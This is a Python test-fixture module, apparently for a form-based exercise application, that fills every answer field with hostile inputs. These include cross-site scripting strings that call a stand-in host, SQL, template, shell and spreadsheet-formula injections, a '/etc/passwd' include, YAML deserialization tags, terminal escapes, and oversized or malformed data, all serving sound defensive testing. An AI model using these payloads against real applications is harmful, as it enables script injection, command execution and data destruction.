"""Words that mean harm, put into every field of every exercise; and answers that are not of the shape of their form."""

import json
from collections.abc import Mapping
from typing import Any

from hostile import Given

from toolkit.answers import LARGEST
from toolkit.exercises.questions import Question
from toolkit.sessions.room import questions

RAN = "ran(1)"  # what the browser tests listen for
AWAY = "//example.org/seen"  # whom no page may ask for anything

WORDS = {
    "script": f"<script>{RAN}</script><SCRIPT SRC={AWAY}.js></SCRIPT>",
    "title": f"<script>document.title='ran';alert('ran');console.log('ran');fetch('{AWAY}')</script>",
    "onerror": f"<img src=x onerror={RAN}><img src='{AWAY}.png'>",
    "svg": f"<svg/onload={RAN}><animate onbegin={RAN} attributeName=x dur=1s><use href={AWAY}>",
    "closing": f"</textarea></title></style></pre></code></div></script>--></noscript><script>{RAN}</script>",
    "attribute": f"\" autofocus onfocus={RAN} x=\" ' onmouseover='{RAN}' `onclick={RAN}`",
    "javascript": f"javascript:{RAN}// <a href=javascript:{RAN}>x</a><a href='java\tscript:{RAN}'>y</a>",
    "frames": f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe><object data=javascript:{RAN}><embed src={AWAY}>",
    "head": f"<base href={AWAY}/><meta http-equiv=refresh content='0;url=javascript:{RAN}'><link rel=stylesheet href={AWAY}>",
    "style": f"<style>@import '{AWAY}';*{{background:url({AWAY})}}</style><p style='background:url({AWAY})'>",
    "form": f"<form action={AWAY}><button formaction=javascript:{RAN}><input autofocus onfocus={RAN}><details open ontoggle={RAN}>",
    "entities": f"&lt;script&gt;{RAN}&lt;/script&gt; &#60;script&#62;{RAN} \\u003cscript\\u003e %3Cscript%3E +ADw-script+AD4-{RAN}",
    "markdown": f"![x](https:{AWAY}.png) [x](javascript:{RAN}) <https:{AWAY}> [r]: {AWAY}\n# Big\n***\n| a |\n|---|\n<b>",
    "fences": f"```\n<script>{RAN}</script>\n~~~\n````html\n<img src=x onerror={RAN}>\n\r```\r</code></pre>",
    "mathematics": f"$\\href{{javascript:{RAN}}}{{x}}$ $$\\require{{html}}\\style{{x}}{{y}}$$ \\[\\unicode{{x}}\\] \\(\\def\\a{{\\a\\a}}\\a\\)",
    "braces": "{{ ran(1) }} {% include '/etc/passwd' %} {0.__class__} {who} {} { ${ran(1)} #{ran(1)} <%= 1 %>",
    "percent": "%s %n %d %(who)s %x%x%x%x 100% $1 \\1 \\g<0>",
    "terminal": "\x1b[2J\x1b]0;ran\x07\x9b31m\x1b]8;;https://example.org\x1b\\\r\b\x7f",
    "formula": "=HYPERLINK(\"https://example.org/?\"&A1;\"x\")",
    "macro": "+cmd|' /C calc'!A0\t@SUM(1)\n-2+3;=1+1",
    "code": "__import__('os').system('touch ran-code') ; `touch ran-tick` $(touch ran-shell) !!python/object/apply:os.system",
    "database": "'); DROP TABLE grade;-- \" OR 1=1 \x00",
    "bidi": "\u202e\u2066nimda\u2069\u200f\u061c\u200b\ufeff\u2028\u2029\x85",
    "half": "\ud83d\udc00\ud800 \ufffe\uffff \U0010ffff",
    "pile": "Z" + "\u0301\u0316\u20dd" * 60 + "👩‍👩‍👧‍👦" * 9,
}  # fmt: skip

DEEP: Any = "x"
for _ in range(9):
    DEEP = [DEEP]

SHAPES: Mapping[str, Any] = {
    "null": None,
    "true": True,
    "number": 7,
    "negative": -1.5,
    "huge": 10**4000,
    "empty-list": [],
    "list": ["x", None, 1, [], {}],
    "many": ["x"] * 900,
    "empty-object": {},
    "object": {"text": None, "document": [], "group": {}, "why": 1},
    "text-list": {"text": ["x"], "document": {"x": 1}},
    "text-object": {"text": {"text": "x"}, "document": True},
    "deep": DEEP,
    "endless": "x" * 7_000,
    "blank": " \t\n\u3000",
}

# What makes a careless pattern, or a careless loop, work for hours: each fills one text to the brim.
LONG = {
    "letters": "x",
    "spaces": " ",
    "hashes": "#",
    "hash-words": "#a",
    "ats": "@a",
    "brackets": "((",
    "quotes": '"a" OR ',
    "digits": "1,",
    "dots": "a.",
    "links": "http://a.b#",
    "hosts": "a.com",
    "scheme": "https://",
    "marks": "\u0301",
    "joined": "👩\u200d",
    "flags": "🇦",
    "turns": "\u202e",
    "arabic": "و",
    "urdu": "۱٬۱",
    "lines": "\n",
    "dashes": "-a",
    "dates": "1 May ",
    "capitals": "NOW! ",
}


def everywhere(given: Given, exercise: str, words: str) -> dict[str, Any]:
    """Answers to all questions of an exercise, each of the right shape, with the words wherever somebody can write."""
    model = given.model["answers"]
    found = {id_: dressed(one, words, model.get(id_)) for id_, one in questions(exercise).items()}
    return given.answers | {"answers": found | {words: words}}


def dressed(question: Question, words: str, before: Any) -> Any:
    """One answer of the shape of its form, with words in it that the form would never put there."""
    first, group = next(iter(question.options), words), next(iter(question.groups), words)
    if question.kind == "text":
        text = before.get("text", "") if isinstance(before, dict) else before or ""
        return {"document": words, "text": f"{text} {words}"}
    if question.kind in ("choices", "order"):
        return [*before, words, words]
    if question.kind == "groups":
        return {**before, first: words, words: group}
    if question.kind == "cards":
        return {id_: {"group": group, "why": words} for id_ in question.options} | {words: {"group": words}}
    if question.kind == "sheet":
        return {one.id: words for one in question.fields} | {words: words}
    return f"116 {words}" if question.kind == "number" else words


def misshapen(given: Given, exercise: str, shape: Any) -> dict[str, Any]:
    """Answers that are all of one shape, whatever the form."""
    return given.answers | {"answers": dict.fromkeys(questions(exercise), shape)}


def inside(given: Given, exercise: str, shape: Any) -> dict[str, Any]:
    """Answers of the right shape outside, and of a wrong one inside."""
    found: dict[str, Any] = {}
    for id_, one in questions(exercise).items():
        parts = [*one.options, *(field.id for field in one.fields)]
        if one.kind in ("groups", "cards", "sheet"):
            found[id_] = dict.fromkeys(parts, shape)
        elif one.kind in ("choices", "order"):
            found[id_] = [shape, *parts, *parts, shape]
        else:
            found[id_] = {"document": shape, "text": shape, "group": shape, "why": shape}
    return given.answers | {"answers": found}


def brimming(given: Given, exercise: str, sign: str) -> dict[str, Any]:
    """One answer of an exercise very long, the first text if there is one, and all others long."""
    size, asked = len(json.dumps(sign)) - 2, questions(exercise)
    model, long = given.model["answers"], sign * (2_000 // size)
    found = {id_: dressed(one, long, model.get(id_)) for id_, one in asked.items()}
    first = min(asked.values(), key=lambda one: ("text", "sheet", one.kind).index(one.kind))
    place = first.fields[0].id if first.fields else "text"
    left = LARGEST // 2 - len(json.dumps(given.answers | {"answers": found})) - 100
    return given.answers | {"answers": found | {first.id: {place: sign * (left // size)}}}
